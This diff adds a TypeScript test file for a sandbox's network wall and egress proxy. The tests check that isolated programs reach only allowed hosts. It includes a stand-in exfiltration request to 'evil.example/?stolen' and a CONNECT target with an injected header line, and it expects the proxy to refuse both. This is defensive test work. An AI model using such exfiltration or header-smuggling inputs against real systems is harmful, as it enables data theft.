@@ -1,0 +1,123 @@
+import { mkdtempSync } from "node:fs";
+import { createServer, get, request } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { text } from "node:stream/consumers";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { NetworkRule } from "../../src/ports/network.ts";
+import { openEgress } from "../../src/processes/egress.ts";
+import { openIsolation, refuseWithout } from "../../src/processes/isolation.ts";
+import { runProcess } from "../../src/processes/process.ts";
+import { outputOf } from "../../src/processes/start-program.ts";
+import { temporaryFolder } from "../workspace/playground.ts";
+
+const server = createServer((request, response) => void response.end(`heard ${request.url}`));
+let port = 0;
+beforeAll(async () => {
+  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
+  port = (server.address() as AddressInfo).port;
+});
+afterAll(() => void server.close());
+
+const environment = { PATH: process.env["PATH"] };
+const walls = await openIsolation({ environment: process.env }).walls();
+const canBuild = walls.find(({ name }) => name === "files")?.on === true;
+
+function behind(network: NetworkRule) {
+  const isolation = openIsolation({ environment: process.env, network });
+  const run = (script: string, more: { readonly loopback?: readonly number[] } = {}) =>
+    runProcess({
+      ...more,
+      command: "bash",
+      args: ["-c", script],
+      cwd: temporaryFolder(),
+      env: { PATH: environment.PATH ?? "" },
+      signal: new AbortController().signal,
+      wrap: (launch) => isolation.wrap(launch),
+    });
+  return { isolation, run };
+}
+
+/** As a program does that heeds the variables. */
+const askProxy = `require("http").get({ host: "127.0.0.1", port: new URL(process.env.http_proxy).port, path: "http://evil.example/?stolen" }, (answer) => answer.pipe(process.stdout))`;
+
+const ask = (address: string) =>
+  `${process.execPath} -e 'fetch("${address}").then(async (answer) => console.log(await answer.text()), () => console.log("no way"))'`;
+
+describe.runIf(canBuild)("behind the network wall", () => {
+  test("a program reaches the ports that it was given, and no other of this machine", async () => {
+    const [given, named, neither] = [
+      await behind([]).run(ask(`http://127.0.0.1:${port}/given`), { loopback: [port] }),
+      await behind([`localhost:${port}`]).run(ask(`http://localhost:${port}/named`)),
+      await behind([]).run(ask(`http://127.0.0.1:${port}/neither`)),
+    ];
+    expect(given.stdout.trim()).toBe("heard /given");
+    expect(named.stdout.trim()).toBe("heard /named");
+    expect(neither.stdout.trim()).toBe("no way");
+  });
+
+  test("a refused program gets an error, and the host is listed", async () => {
+    const { isolation, run } = behind(["example.com"]);
+    const { stdout } = await run(`${process.execPath} -e '${askProxy}'`);
+    expect(stdout).toContain("evil.example is not in `network`");
+    const wall = (await isolation.walls()).find(({ name }) => name === "network");
+    expect(wall).toEqual({
+      name: "network",
+      on: true,
+      detail: "programs reach example.com; refused: evil.example",
+    });
+  });
+
+  test("it finds the sockets of no other program, and ends with all that served it", async () => {
+    const { run } = behind([]);
+    const { stdout } = await run("ls /tmp/until-green-net-$(id -u) | wc -l; (sleep 4712 &)");
+    expect(stdout.trim()).toBe("1");
+    const left = await outputOf("bash", ["-c", "pgrep -fx 'sleep 4712' || echo none"]);
+    expect(left.trim()).toBe("none");
+  });
+});
+
+test("the proxy connects to the hosts of its rule only, whatever a client asks", async () => {
+  const path = join(mkdtempSync("/tmp/egress-"), "socket");
+  const refused: string[] = [];
+  const rule = [`127.0.0.1:${port}`, "gone.invalid"];
+  const proxy = await openEgress({ rule, path, refused: (host) => refused.push(host) });
+  const absolute = (target: string) =>
+    new Promise<string>((resolve, reject) => {
+      const asking = get({ socketPath: path, path: target }, async (answer) =>
+        resolve(`${answer.statusCode} ${await text(answer)}`),
+      );
+      asking.once("error", reject);
+    });
+  const tunnel = (target: string) =>
+    new Promise<number | undefined>((resolve) => {
+      const asking = request({ socketPath: path, method: "CONNECT", path: target }).end();
+      asking.once("connect", (answer, socket) => {
+        socket.destroy();
+        resolve(answer.statusCode);
+      });
+    });
+  expect(await absolute(`http://127.0.0.1:${port}/allowed`)).toBe("200 heard /allowed");
+  expect(await absolute(`http://127.0.0.1:${port + 1}/`)).toMatch(/^403 .*not in `network`/);
+  expect(await absolute("http://evil.example/")).toMatch(/^403 /);
+  expect(await absolute("https://evil.example/")).toBe("400 ");
+  expect(await absolute("/path")).toBe("400 ");
+  expect(await absolute("http://gone.invalid/")).toBe("502 ");
+  expect(await tunnel(`127.0.0.1:${port}`)).toBe(200);
+  expect(await tunnel("evil.example:443")).toBe(403);
+  expect(await tunnel("evil.example:443\r\nx:1".replace(/\s/g, ""))).toBe(403);
+  proxy.close();
+  expect(refused.slice(0, 3)).toEqual(["127.0.0.1", "evil.example", "evil.example"]);
+});
+
+test("where hosts are named, `required` means the network's wall too; where none are, it does not", () => {
+  const [processes, files] = (["processes", "files"] as const).map((name) => ({
+    name,
+    on: true,
+    detail: "",
+  }));
+  const network = { name: "network", on: false, detail: "it cannot be enforced" } as const;
+  const walled = [processes, files].filter((wall) => wall !== undefined);
+  expect(() => refuseWithout([...walled, network])).toThrow("network: it cannot be enforced");
+  expect(() => refuseWithout([...walled, { ...network, open: true }])).not.toThrow();
+});
